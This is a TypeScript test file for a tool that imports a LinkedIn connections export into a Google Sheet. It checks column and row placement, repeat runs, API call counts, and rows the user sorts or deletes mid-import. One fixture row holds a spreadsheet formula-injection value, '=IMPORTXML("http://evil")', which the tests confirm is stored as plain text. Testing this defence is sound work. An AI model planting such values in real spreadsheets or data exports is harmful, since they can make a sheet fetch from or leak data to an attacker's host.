import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { storesFor } from "../../functions/open-store.js";
import { parseSourceRef } from "../../functions/parse-source.js";
import { type Day, dayFromIso } from "../../shared/contacts/days.js";
import { importLinkedInExport } from "../../shared/import/import-job.js";
import { writeGeneratedExport } from "../linkedin/generate-export.js";
import { useFakeGoogle } from "../stores/sheets/sheets-harness.js";
import { useTempDir } from "../support/temp-dir.js";

const { context, run } = useFakeGoogle();
const tempDir = useTempDir();
const TODAY = dayFromIso("2026-11-25") as Day;

const HEADER = ["Name", "LinkedIn URL", "Relationship", "Status", "Company", "Title", "Notes"];

async function exportFolder(): Promise<string> {
  const dir = join(await tempDir(), "Basic_LinkedInDataExport_11-01-2026");
  await mkdir(dir);
  await writeFile(
    join(dir, "Connections.csv"),
    [
      "First Name,Last Name,URL,Email Address,Company,Position,Connected On",
      "Ana,Silva,https://www.linkedin.com/in/ana,,Globex,CTO,05 Feb 2024",
      "Bo,Chen,https://www.linkedin.com/in/bo,,Initech,Designer,06 Feb 2024",
      '=IMPORTXML("http://evil"),X,https://www.linkedin.com/in/x,,Acme,Boss,07 Feb 2024',
    ].join("\n"),
  );
  await writeFile(
    join(dir, "Invitations.csv"),
    [
      "From,To,Sent At,Message,Direction,inviterProfileUrl,inviteeProfileUrl",
      'Ada Quill,Cy Diaz,"10/20/26, 2:37 PM",,OUTGOING,https://www.linkedin.com/in/ada,https://www.linkedin.com/in/cy',
    ].join("\n"),
  );
  return dir;
}

function importInto(id: string, path: string) {
  return importLinkedInExport({
    paths: [path],
    source: parseSourceRef(`sheets:${id}`),
    today: TODAY,
    stores: storesFor({ sheetsRootUrl: context.sheets.rootUrl, notion: {} }),
  });
}

describe("tend import on a Google Sheet", () => {
  it("updates rows, adds columns at the right end and new rows after the last non-blank row, as RAW text", async () => {
    const id = context.sheets.createSpreadsheet({
      tabs: {
        Contacts: [
          HEADER,
          ["Ana Silva", "linkedin.com/in/ana", "Worked together", "Connected", "Contoso", "Engineer", "mine"],
          [],
          ["Cy Diaz", "linkedin.com/in/cy", "", "", "", "", ""],
          ["", "", "", "", "", "", "a note on an otherwise blank row"],
        ],
      },
      input: "RAW",
    });
    const summary = await importInto(id, await exportFolder());
    expect(summary.report.added).toMatchObject({ total: 2, connections: 2 });
    expect(summary.addedColumns).toEqual(["Requested on", "Connected on", "Milestone", "Milestone on"]);
    expect(summary.firstNewRow).toBe(6);
    const values = context.sheets.tabValues(id, "Contacts");
    expect(values[0]).toEqual([...HEADER, "Requested on", "Connected on", "Milestone", "Milestone on"]);
    expect(values[1]).toEqual([
      "Ana Silva",
      "linkedin.com/in/ana",
      "Worked together",
      "Connected",
      "Globex",
      "CTO",
      "mine",
      "",
      "2024-02-05",
      "New role: CTO at Globex",
      "2026-11-01",
    ]);
    expect(values[3]).toEqual([
      "Cy Diaz",
      "linkedin.com/in/cy",
      "",
      "Request sent",
      "",
      "",
      "",
      "2026-10-20",
    ]);
    expect(values[5]?.slice(0, 2)).toEqual(["Bo Chen", "https://www.linkedin.com/in/bo"]);
    expect(values[6]?.[0]).toBe('=IMPORTXML("http://evil") X');
    expect(context.sheets.formulas(id, "Contacts")).toEqual({});

    // The daily run reads the imported days back and congratulates Ana; row 5 is the user's own.
    const daily = await run(id);
    expect(daily.problems.map((problem) => problem.row)).toEqual([5]);
    expect(context.sheets.tabValues(id, "Contacts")[1]?.[11]).toBe("Congratulate");
  });

  it("makes the same few calls whatever the size of the export, and none to write when nothing changed", async () => {
    const counts: number[] = [];
    for (const connections of [200, 1_600]) {
      const id = context.sheets.createSpreadsheet({ tabs: { Contacts: [HEADER] }, input: "RAW" });
      const { path } = await writeGeneratedExport(join(await tempDir(), "export"), {
        connections,
        invitations: connections / 4,
        messages: connections * 5,
      });
      context.sheets.resetCalls();
      const summary = await importInto(id, path);
      counts.push(context.sheets.calls.length);
      expect(context.sheets.tabValues(id, "Contacts").length).toBe(summary.report.added.total + 1);
      context.sheets.resetCalls();
      const again = await importInto(id, path);
      expect([again.report.added.total, again.report.updated.rows]).toEqual([0, 0]);
      expect(context.sheets.count("values.batchUpdate")).toBe(0);
    }
    // Load (metadata, values), then metadata again, a re-read, room for rows, and one write.
    expect(counts).toEqual([5, 6]);
  });

  it("writes onto the same contacts after the user sorted the rows during the import", async () => {
    const id = context.sheets.createSpreadsheet({
      tabs: {
        Contacts: [
          HEADER,
          ["Ana Silva", "linkedin.com/in/ana", "", "", "Contoso", "Engineer"],
          ["Bo Chen", "linkedin.com/in/bo", "", "Request sent"],
          ["Zed", "linkedin.com/in/zed"],
        ],
      },
      input: "RAW",
    });
    context.sheets.onCall(
      2,
      () => context.sheets.sortRows(id, "Contacts", { column: "A", descending: true }),
      "values.batchGet",
    );
    const summary = await importInto(id, await exportFolder());
    expect(summary.notWritten).toEqual([]);
    const rows = context.sheets.tabValues(id, "Contacts").slice(1);
    const byName = Object.fromEntries(rows.map((row) => [String(row[0]), row]));
    expect(byName["Ana Silva"]?.slice(3, 6)).toEqual(["Connected", "Globex", "CTO"]);
    expect(byName["Bo Chen"]?.slice(3, 6)).toEqual(["Connected", "Initech", "Designer"]);
    expect(byName.Zed?.slice(3)).toEqual([]);
  });

  it("does not write a row the user deleted during the import, and says so", async () => {
    const id = context.sheets.createSpreadsheet({
      tabs: { Contacts: [HEADER, ["Ana Silva", "linkedin.com/in/ana"], ["Bo Chen", "linkedin.com/in/bo"]] },
      input: "RAW",
    });
    context.sheets.onCall(2, () => context.sheets.deleteRows(id, "Contacts", 2), "values.batchGet");
    const summary = await importInto(id, await exportFolder());
    expect(summary.notWritten).toEqual([
      { row: 2, reason: "the contact was moved or deleted during the import; import again to update it" },
    ]);
    const names = context.sheets.tabValues(id, "Contacts").map((row) => row[0]);
    expect(names).toEqual(["Name", "Bo Chen", '=IMPORTXML("http://evil") X', "Cy Diaz"]);
  });
});
